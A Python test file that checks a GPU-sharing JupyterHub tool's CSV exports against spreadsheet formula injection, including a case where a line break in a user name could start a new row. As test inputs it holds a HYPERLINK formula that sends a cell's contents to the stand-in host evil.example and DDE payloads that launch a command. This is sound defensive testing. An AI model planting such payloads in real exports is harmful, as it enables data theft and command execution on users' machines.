"""Every CSV export is read by spreadsheets as data, never as formulas (issue 41): the cells a
spreadsheet would evaluate begin with ``'``, numbers stay numbers, and the history's CSV is
still the trace format the simulator reads."""

import csv
import io

import pytest

from jupyter_gpushare import spreadsheet
from jupyter_gpushare.pool.web.api_history import to_csv as history_csv
from jupyter_gpushare.sim.history import COLUMNS
from jupyter_gpushare.usage import showback


@pytest.mark.parametrize("text", [
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
    "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1", "  =1+1", "\uff1d1+1", "\u00a0=1+1",
    "\u3000=1+1", "\u22121+1",
])
def test_a_cell_that_starts_a_formula_is_text(text):
    assert spreadsheet.cell(text) == "'" + text


@pytest.mark.parametrize("value, written", [
    ("alice", "alice"), ("a=b", "a=b"), ("", ""), (None, ""), (-1.5, -1.5), (0, 0),
    (True, True), ("j-0001", "j-0001"),
])
def test_other_cells_are_written_as_they_are(value, written):
    assert spreadsheet.cell(value) == written


def test_the_showback_and_history_exports_neutralise_formulas():
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    text = showback.to_csv([{"user": evil, "allocated_gpu_hours": -0.5, "note": None}])
    assert list(csv.reader(io.StringIO(text))) == [
        ["user", "allocated_gpu_hours", "note"], ["'" + evil, "-0.5", ""]]
    rows = list(csv.DictReader(io.StringIO(history_csv([
        {"job_id": "j-1", "user": evil, "project": "vision", "gpus": 1, "duration": 10}]))))
    assert list(rows[0]) == list(COLUMNS)
    assert rows[0]["user"] == "'" + evil and rows[0]["job_id"] == "j-1"
    assert showback.to_csv([]) == ""


@pytest.mark.parametrize("name", ["mallory\r=1+1*cmd|' \\C calc'!A0", "a\r\n=1+1", "a\n@x"])
def test_a_line_break_inside_a_name_does_not_start_a_row(name):
    """A bare carriage return in a user name (JupyterHub accepts it) must not end the row:
    the next "row" would begin with the formula."""
    text = showback.to_csv([{"user": name, "allocated_gpu_hours": 1.0}])
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["user", "allocated_gpu_hours"], [name, "1.0"]]
    assert text.endswith("\r\n")
